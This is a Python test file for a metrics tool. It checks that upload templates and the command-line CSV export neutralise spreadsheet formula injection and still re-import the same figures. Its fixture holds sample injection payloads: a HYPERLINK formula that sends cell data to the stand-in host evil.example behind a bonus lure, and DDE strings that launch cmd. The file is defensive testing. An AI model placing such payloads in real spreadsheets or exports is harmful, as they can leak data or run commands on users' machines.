"""Files the product hands out cannot carry a formula: the upload templates (anyone may
download them) and the command line's ``export`` neutralise text that Excel would run
(``=``, ``+``, ``-``, ``@``) as the dashboard's own exports do, and the importer still
recognises the names in them.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from bxgc_metrics import cli
from bxgc_metrics.importer.service import analyse
from bxgc_metrics.importer.templates import long_template, wide_template
from bxgc_metrics.store import Store

HOSTILE = {
    "JD01": '=HYPERLINK("http://evil.example/?"&A1,"点击领取奖金")',
    "JD02": "+cmd|' /C calc'!A0",
    "XZ01": "-2+3+cmd|' /C calc'!A0",
    "XZ02": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DANGEROUS = ("=", "+", "-", "@")


@pytest.fixture
def hostile(demo_store: Store) -> Store:
    """The demo database with four units (and one indicator) renamed to formulas."""
    units = demo_store.units()
    units["name_zh"] = [
        HOSTILE.get(c, n) for c, n in zip(units["code"], units["name_zh"], strict=True)
    ]
    demo_store.upsert_units(units)
    indicators = demo_store.indicators()
    first = indicators["code"] == "FAI"
    indicators.loc[first, "name_zh"] = "=1+1"
    demo_store.upsert_indicators(indicators)
    return demo_store


def _cells(book: bytes) -> list[tuple[str, object, str]]:
    """Every cell of every sheet: (sheet, value, openpyxl data type)."""
    wb = openpyxl.load_workbook(io.BytesIO(book))
    return [
        (ws.title, c.value, c.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
    ]


@pytest.mark.parametrize("which", ["long", "wide"])
def test_templates_hold_no_formula_and_no_formula_like_text(hostile: Store, which: str) -> None:
    units, indicators = hostile.units(), hostile.indicators()
    if which == "long":
        book = long_template(units, indicators)
    else:
        indicators = indicators.sort_values("code", key=lambda c: c != "FAI")
        book = wide_template(units, indicators, ["2026-01", "2026-02"])
    cells = _cells(book)
    assert not [c for c in cells if c[2] == "f"], "a cell is a formula"
    risky = [c for c in cells if isinstance(c[1], str) and c[1].startswith(DANGEROUS)]
    assert not risky, risky
    texts = {c[1] for c in cells}
    assert "'" + HOSTILE["JD01"] in texts and "'=1+1" in texts
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_the_command_line_export_neutralises_text(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    assert cli.main(["export", "--db", str(hostile.path), "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows
    text_columns = ("unit", "indicator", "period", "kind", "measure", "unit_code", "indicator_code")
    risky = [r[c] for r in rows for c in text_columns if r[c].startswith(DANGEROUS)]
    assert not risky, risky[:5]
    assert {"'" + name for name in HOSTILE.values()} <= {r["unit"] for r in rows}
    assert all(float(r["value"]) == float(r["value"]) for r in rows)  # numbers stay numbers


def test_a_neutralised_export_imports_as_the_same_figures(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    assert cli.main(["export", "--db", str(hostile.path), "--out", str(out)]) == 0
    frame = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    part = frame[frame["unit_code"].isin(list(HOSTILE)) & frame["indicator_code"].isin(["FAI"])]
    with_codes = analyse(part.to_csv(index=False).encode("utf-8-sig"), "export.csv", hostile)
    assert not with_codes.errors, [i.text("en") for i in with_codes.errors]
    assert with_codes.counts()["new"] == with_codes.counts()["changed"] == 0
    by_name = part.drop(columns=["unit_code", "indicator_code"])  # the names must do it alone
    plan = analyse(by_name.to_csv(index=False).encode("utf-8-sig"), "names.csv", hostile)
    assert not plan.errors, [i.text("en") for i in plan.errors]
    assert set(plan.observations["unit_code"]) == set(HOSTILE)
    assert set(plan.observations["indicator_code"]) == {"FAI"}
    assert plan.counts()["new"] == plan.counts()["changed"] == 0
